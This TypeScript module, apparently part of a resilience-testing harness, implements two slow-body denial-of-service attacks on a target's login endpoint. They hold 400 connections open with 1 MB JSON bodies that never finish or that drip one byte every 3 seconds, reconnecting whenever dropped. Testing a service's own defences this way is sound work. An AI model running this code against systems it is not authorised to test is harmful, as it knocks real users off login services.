import { request } from 'node:http'
import { type Attack, countResponse, keepBusy, pause, type Target } from '../lib/attack.ts'

const length = 1024 * 1024
const almostAll = Buffer.alloc(length - 1, 0x20)

/** One body that never ends; `dripMs` apart one byte each, or all but the last byte at once. Resolves when the connection ends. */
const unfinished = (target: Target, signal: AbortSignal, dripMs: number | null): Promise<void> =>
  new Promise((resolve) => {
    const sent = request(`${target.origin}/api/auth/login`, {
      method: 'POST',
      localAddress: target.from,
      agent: false,
      headers: { 'content-type': 'application/json', 'content-length': String(length), origin: target.origin },
    })
    target.count('opened')
    sent.on('response', countResponse(target))
    sent.on('error', () => undefined)
    const drip = dripMs === null ? undefined : setInterval(() => sent.write(' '), dripMs)
    const stop = () => sent.destroy()
    sent.on('close', () => {
      clearInterval(drip)
      signal.removeEventListener('abort', stop)
      // whoever is thrown out comes again
      void pause(100, signal).then(resolve)
    })
    signal.addEventListener('abort', stop, { once: true })
    sent.flushHeaders()
    if (dripMs === null) sent.write(almostAll)
  })

export const unfinishedBodies: Attack = {
  name: 'unfinished-bodies',
  what: '400 JSON bodies of 1 MB without their last byte, kept open',
  arm: async (target) => (signal) => keepBusy(400, signal, () => unfinished(target, signal, null)),
}

export const drippingBodies: Attack = {
  name: 'dripping-bodies',
  what: '400 JSON bodies that come one byte every 3 s',
  arm: async (target) => (signal) => keepBusy(400, signal, () => unfinished(target, signal, 3000)),
}
